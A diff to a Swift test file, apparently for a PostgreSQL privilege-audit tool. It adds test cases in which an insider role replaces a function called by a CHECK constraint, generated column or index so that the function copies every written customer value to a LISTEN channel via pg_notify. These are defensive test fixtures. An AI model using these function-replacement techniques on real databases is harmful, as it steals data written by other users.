@@ -6,7 +6,7 @@ import Testing
 /// Every road's database has `public.customers (id, email)` holding the canary in `email`,
 /// owned by `support_owner`, and a login role `mallory` who is the insider. `{canary}` in the
 /// SQL is replaced by the canary, `{writer}` in the attack by a shell command that has another
-/// role write every customer row, `{reader}` by one that keeps a query naming the canary running,
+/// role write every customer row (every column) and add a new customer, `{reader}` by one that keeps a query naming the canary running,
 /// `{agentReader}` by one where the login role `agent` reads the customers (row security applies),
 /// `{superuser}` by the psql command line of the superuser (what the server's own operating-system
 /// user can run), `{reload}` by one that reloads the configuration and switches the WAL segment,
@@ -74,6 +74,33 @@ struct CapabilityRoad: Sendable, CustomTestStringConvertible {
                 SELECT public.queue_length();
                 """,
             capability: "definer_code", cause: cause, expectAttackWorks: works)
+    }
+
+    /// `public.inspect(text)`, owned by a group of mallory's, called by an expression of the
+    /// customers table's own (`uses`): mallory replaces it, another role writes, the values come.
+    /// Without CREATE on the function's schema (`schemaCreate` false) the owner cannot replace
+    /// the body: the road must fail and the audit stay silent.
+    static func expressionRoad(
+        _ name: String, returns: String, result: String, uses: String, cause: String?, schemaCreate: Bool = true
+    ) -> CapabilityRoad {
+        CapabilityRoad(
+            name: name,
+            setup: """
+                CREATE ROLE auditor NOLOGIN;
+                GRANT auditor TO mallory;
+                \(schemaCreate ? "GRANT CREATE ON SCHEMA public TO auditor;" : "REVOKE CREATE ON SCHEMA public FROM PUBLIC;")
+                CREATE FUNCTION public.inspect(text) RETURNS \(returns) LANGUAGE plpgsql IMMUTABLE AS $b$ BEGIN RETURN \(result); END $b$;
+                ALTER FUNCTION public.inspect(text) OWNER TO auditor;
+                \(uses)
+                """,
+            attack: """
+                LISTEN loot;
+                CREATE OR REPLACE FUNCTION public.inspect(text) RETURNS \(returns) LANGUAGE plpgsql IMMUTABLE
+                  AS $w$ BEGIN PERFORM pg_notify('loot', $1); RETURN \(result); END $w$;
+                \\! {writer}
+                SELECT 'delivered';
+                """,
+            capability: "expression_function", cause: cause, expectAttackWorks: schemaCreate)
     }
 
     static let all: [CapabilityRoad] = [
@@ -190,6 +217,22 @@ struct CapabilityRoad: Sendable, CustomTestStringConvertible {
                 SELECT 'delivered';
                 """,
             capability: "trigger_function", cause: "owns trigger function public.audit() of public.customers"),
+        expressionRoad(
+            "Owning a function a CHECK constraint calls: replacing it receives every value written",
+            returns: "boolean", result: "true", uses: "ALTER TABLE public.customers ADD CONSTRAINT valid_email CHECK (public.inspect(email));",
+            cause: "owns public.inspect(text), called by the CHECK constraint valid_email of public.customers"),
+        expressionRoad(
+            "Owning a function a stored generated column calls: replacing it receives every value written",
+            returns: "text", result: "md5($1)", uses: "ALTER TABLE public.customers ADD COLUMN email_hash text GENERATED ALWAYS AS (public.inspect(email)) STORED;",
+            cause: "owns public.inspect(text), called by the generated column email_hash of public.customers"),
+        expressionRoad(
+            "Owning a function an index expression calls: replacing it receives every new value",
+            returns: "text", result: "lower($1)", uses: "CREATE INDEX customers_email_norm ON public.customers (public.inspect(email));",
+            cause: "owns public.inspect(text), called by the index customers_email_norm of public.customers"),
+        expressionRoad(
+            "Owning a function a CHECK constraint calls without CREATE on its schema: the body cannot be replaced (no road)",
+            returns: "boolean", result: "true", uses: "ALTER TABLE public.customers ADD CONSTRAINT valid_email CHECK (public.inspect(email));",
+            cause: nil, schemaCreate: false),
         CapabilityRoad(
             name: "Owning a function a row-security policy calls: replacing it receives the rows a reader is checked against",
             setup: """
